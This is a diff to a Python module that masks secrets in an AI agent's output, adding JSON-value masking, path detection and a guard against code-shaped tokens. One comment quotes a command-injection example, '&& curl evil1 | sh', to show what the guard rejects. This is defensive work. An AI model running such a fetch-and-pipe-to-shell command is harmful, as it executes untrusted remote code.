@@ -26,20 +26,21 @@ as its environment is: what one part learns, every other part masks, so it is th
 module level, added to only, under a lock.
 """
 import collections
+import functools
 import json
 import os
 import re
 import threading
 import urllib.parse
 
-from beyond.secrets.entries import Place, masked_entry, places
+from beyond.secrets.entries import CODE, Place, masked_entry, places
 from beyond.secrets.names import (AUTH_SCHEME, CREDENTIAL_HEADERS, PLACEHOLDERS, SECRET_FILES, SECRET_FOLDERS,
                                   SECRET_PATHS, is_secret_name, looks_secret)
-from beyond.secrets.scan import MAX_NAME, by_place, triggered
+from beyond.secrets.scan import GENERIC, MAX_NAME, NOT_VALUES, by_place, triggered
 
 __all__ = ["AUTH_SCHEME", "CREDENTIAL_HEADERS", "MIN_MASKED", "SECRET_FILES", "SECRET_FOLDERS", "SECRET_PATHS",
            "Inventory", "MaskedStream", "Place", "add", "is_secret_name", "learn_entry", "looks_secret", "mask",
-           "masked_entry", "places"]
+           "mask_data", "masked_entry", "places"]
 
 # A value shorter than this is never masked by value: it would mask ordinary words and digits everywhere.
 MIN_MASKED = 8
@@ -54,11 +55,14 @@ MAX_HELD_CHARS = 4096
 # A streamed text is held back where it may begin a secret: its first this many characters are looked for
 # anywhere at the end; a longer start is looked for where those are found.
 PREFIX_CHARS = 64
-# A value a ${VAR} gave an entry, or the environment holds, that is a path: a folder's name, no secret.
-PATH = re.compile(r"~?/[^/\s]*/|[A-Za-z]:[\\/]")
-# A letter and a digit: what a value another party chose (a token, a registration's secret) must hold to be
-# masked, so an authorization server cannot make words vanish ("application/json", "function").
+# A letter and a digit, and a credential's shape (entries.CODE: no space, quote, bracket or shell character):
+# what a value another party chose (a token, a registration's secret) must have to be masked, so an
+# authorization server cannot make words vanish ("function") nor hide a command ("&& curl evil1 | sh").
 ISSUED = re.compile(r"(?=.*[A-Za-z])(?=.*[0-9])", re.DOTALL)
+# An entry hands in at most this many secrets: a file of thousands would slow every line the agent shows.
+MAX_PER_ENTRY = 64
+# mask_data() walks a JSON value this deep (a schema, a call's arguments): below, its text is masked.
+MAX_DEPTH = 64
 
 
 class Inventory:
@@ -79,7 +83,8 @@ class Inventory:
         """Hand in a secret; `what` names it in the mask ([REDACTED:what]); `rotating` names what it replaces
         (a server's access token replaces its last one): the newest MAX_ROTATING of each are kept; `issued`:
         another party chose it (ISSUED)."""
-        if not isinstance(value, str) or not value.strip() or issued and not ISSUED.match(value):
+        if not isinstance(value, str) or not value.strip() or issued and (not ISSUED.match(value) or
+                                                                         CODE.search(value)):
             return
         with self._lock:
             if value in self._kept:
@@ -95,14 +100,12 @@ class Inventory:
 
     def learn_entry(self, written: dict, expanded: dict) -> None:
         """Hand in what a server about to start holds secret (wire/ calls this with its entry as written and
-        as ${VAR} expanded): each value secret by its place, and each header a ${VAR} changed (but a path)."""
-        for place in places(expanded):
-            self.add(place.value, place.name)
-        headers = expanded.get("headers") if isinstance(expanded.get("headers"), dict) else {}
-        for key, value in (written.get("headers") or {}).items():
-            now = headers.get(key, value)
-            if isinstance(now, str) and now != value and not PATH.match(now):
-                self.add(AUTH_SCHEME.sub("", now), str(key))
+        as ${VAR} expanded): each value secret by its place, and each header a ${VAR} changed; MAX_PER_ENTRY."""
+        now = expanded.get("headers") if isinstance(expanded.get("headers"), dict) else {}
+        changed = [(AUTH_SCHEME.sub("", now[key]), str(key)) for key, value in (written.get("headers") or {}).items()
+                   if isinstance(now.get(key), str) and now[key] != value]
+        for value, what in ([(place.value, place.name) for place in places(expanded)] + changed)[:MAX_PER_ENTRY]:
+            self.add(value, what)
 
     def values(self) -> dict[str, str]:
         """Every secret known now (value -> what it is), those too short to mask by value included."""
@@ -120,35 +123,25 @@ class Inventory:
         return by_place(text)
 
     def begun(self, text: str, cut: int) -> int:
-        """Where in `text` a known secret may begin before `cut` and reach past it (one whole but cut in two,
-        or one not whole yet at the end): the cut moved there; else `cut`."""
-        variants, prefixes, _ = self._table()
-        for at in range(max(0, len(text) - PREFIX_CHARS), cut):  # a secret's first characters at the end
-            if text[at:] in prefixes:
-                cut = at
-                break
-        for variant, _, _ in variants:
-            at = text.find(variant[:PREFIX_CHARS], max(0, cut - len(variant) + 1))
-            while -1 < at < cut:
-                if variant.startswith(text[at:at + len(variant)]) and at + len(variant) > cut:
-                    cut = at
-                    break
-                at = text.find(variant[:PREFIX_CHARS], at + 1)
+        """Where in `text` a known secret may begin before `cut` and reach past it (one not whole yet at the
+        end, or one whole but cut in two): the cut moved there; else `cut`. A set's lookups, not a find for
+        each secret: the cost of a piece is its own, however many secrets there are."""
+        _, prefixes, longest = self._table()
+        for at in range(max(0, cut - PREFIX_CHARS), cut):
+            if text[at:cut] in prefixes:  # a secret's first characters just before the cut: it may go on past it
+                return at
+        for variant in longest:  # one longer than PREFIX_CHARS begun further back
+            at = text.find(variant[:PREFIX_CHARS], max(0, cut - len(variant) + 1), cut)
+            if at != -1 and variant.startswith(text[at:at + len(variant)]):
+                return at
         return cut
 
     def _environment(self) -> list[tuple[str, str]]:
-        """(value, name) of each secret-named variable but a path, and of the user name and password of a URL
-        in any (a proxy's, a database's)."""
-        found = []
-        for name in self.environ:
-            value = self.environ[name]
-            if is_secret_name(name) and not PATH.match(value):
-                found.append((value, name))
-            elif "://" in value:
-                found += [(place.value, name) for place in places({"env": {name: value}})]
-        return found
+        """(value, name) of each secret-named variable, and of the user name and password of a URL in any (a
+        proxy's, a database's)."""
+        return [found for name in self.environ for found in _of_variable(name, self.environ[name])]
 
-    def _table(self) -> tuple[list[tuple[str, str, "re.Pattern | None"]], frozenset, int]:
+    def _table(self) -> tuple[list[tuple[str, str, "re.Pattern | None"]], frozenset, list[str]]:
         """The table, made again when the environment or the inventory changed (see _variants_of)."""
         environment = tuple(self._environment())
         with self._lock:
@@ -159,14 +152,21 @@ class Inventory:
             return self._built[1:]
 
 
+@functools.lru_cache(maxsize=1024)  # read at every mask(): the same few variables each time
+def _of_variable(name: str, value: str) -> tuple[tuple[str, str], ...]:
+    if is_secret_name(name):
+        return ((value, name),)
+    return tuple((place.value, name) for place in places({"env": {name: value}})) if "://" in value else ()
+
+
 def _variants_of(found: dict[str, str]) -> tuple[list, frozenset, int]:
     """(each form a secret may take in text, longest first, with its mask and, for a short one, its
-    whole-token pattern; the first PREFIX_CHARS of them, cut at every length; the longest's length): as
+    whole-token pattern; the first PREFIX_CHARS of them, cut at every length; those longer than that): as
     written and without the white space round it, inside a JSON string (either way JSON writes letters beyond
     ASCII), percent-encoded in a URL and decoded from one."""
     variants = {}
     for value, what in found.items():
-        if len(value.strip()) < MIN_MASKED or value.strip().lower() in PLACEHOLDERS:
+        if len(value.strip()) < MIN_MASKED or value.strip().lower() in PLACEHOLDERS or _a_path(value):
             continue
         label = "[REDACTED:" + re.sub(r"[^A-Za-z0-9_.:-]", "_", what)[:64] + "]"
         bare = value.strip()
@@ -178,7 +178,14 @@ def _variants_of(found: dict[str, str]) -> tuple[list, frozenset, int]:
                 variants[form] = (label, whole)
     ordered = [(form, label, whole) for form, (label, whole) in sorted(variants.items(), key=lambda v: -len(v[0]))]
     prefixes = frozenset(form[:n] for form in variants for n in range(1, min(len(form), PREFIX_CHARS + 1)))
-    return ordered, prefixes, max(map(len, variants), default=0)
+    return ordered, prefixes, [form for form in variants if len(form) > PREFIX_CHARS]
+
+
+def _a_path(value: str) -> bool:
+    """Whether a value names a file or folder that is there (GOOGLE_APPLICATION_CREDENTIALS, ${HOME}/x): where a
+    secret is, not the secret."""
+    path = os.path.expanduser(value.strip())
+    return (os.path.isabs(path) or value.startswith("~")) and len(path) < 4096 and os.path.exists(path)
 
 
 # The process's inventory (see above), and what the parts call.
@@ -200,6 +207,31 @@ def mask(text: str) -> str:
     return INVENTORY.mask(text)
 
 
+def mask_data(value: object, depth: int = 0) -> object:
+    """A JSON value as it may leave the agent: each string masked, and the value of each key that names a secret
+    (not one too common to be sure of) replaced, when it has a credential's shape; a structure walked, never
+    written out and parsed again (masking JSON's text could break an escape). Past MAX_DEPTH levels, what is
+    deeper is masked as text, or left out if that text no longer parses."""
+    if isinstance(value, str):
+        return mask(value)
+    if isinstance(value, (list, dict)) and depth >= MAX_DEPTH:
+        try:
+            return json.loads(mask(json.dumps(value)))
+        except (ValueError, RecursionError):
+            return None
+    if isinstance(value, list):
+        return [mask_data(item, depth + 1) for item in value]
+    if not isinstance(value, dict):
+        return value
+    return {mask(str(key)): "[REDACTED]" if isinstance(item, str) and _named_secret(str(key), item)
+            else mask_data(item, depth + 1) for key, item in value.items()}
+
+
+def _named_secret(key: str, value: str) -> bool:
+    return is_secret_name(key) and key.upper() not in GENERIC and value.lower() not in NOT_VALUES and bool(value) \
+        and not value.startswith(("${", "[REDACTED", "[masked]")) and not CODE.search(value)
+
+
 class MaskedStream:
     """Text that comes in pieces (a streamed answer), masked as mask() masks it, with a secret split across
     pieces caught: what may be part of one is held back until the next piece or rest(). A line that may hold
@@ -218,8 +250,9 @@ class MaskedStream:
         start = text.rfind("\n") + 1  # the last line's
         if not (self._line_held and start == 0):
             self._line_held = triggered(text[max(start, new - MAX_NAME - 1):] if start < new else text[start:])
-        if self._line_held:
-            cut = max(start, len(text) - MAX_HELD_CHARS)
+        if self._line_held:  # past MAX_HELD_CHARS, what is let go ends at a space: a name is never cut in two
+            cut = start if len(text) - start <= MAX_HELD_CHARS else \
+                max(start, text.rfind(" ", start, len(text) - MAX_HELD_CHARS) + 1)
         elif text[-1:].isspace():
             cut = len(text)
         else:
